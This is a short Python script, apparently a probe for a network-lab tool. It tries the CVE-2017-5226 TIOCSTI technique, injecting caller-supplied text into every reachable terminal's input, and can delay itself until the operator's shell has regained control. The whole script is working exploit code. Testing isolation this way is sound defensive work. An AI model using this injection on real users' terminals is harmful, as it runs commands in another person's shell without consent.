#!/usr/bin/env python3
"""Run inside a node: try to push TEXT into the input of every terminal
this process can reach (its stdin, stdout, stderr and /dev/tty) with
TIOCSTI, as CVE-2017-5226 does, and say what happened.

    tiocsti.py TEXT [DELAY]

With DELAY, fork to the background first and try after DELAY seconds,
when `netlab exec` has already returned to the operator's shell."""
import codecs
import fcntl
import os
import sys
import termios
import time

text = codecs.decode(sys.argv[1], "unicode_escape").encode()
delay = float(sys.argv[2]) if len(sys.argv) > 2 else 0
if delay:
    if os.fork():
        sys.exit(0)
    time.sleep(delay)
results = []
targets = [(str(fd), fd) for fd in (0, 1, 2)]
try:
    targets.append(("/dev/tty", os.open("/dev/tty", os.O_RDWR)))
except OSError as e:
    results.append("/dev/tty: open: %s" % e.strerror)
for name, fd in targets:
    try:
        for b in text:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([b]))
        results.append("%s: injected" % name)
    except OSError as e:
        results.append("%s: %s" % (name, e.strerror))
sys.stderr.write("tiocsti: " + "; ".join(results) + "\n")
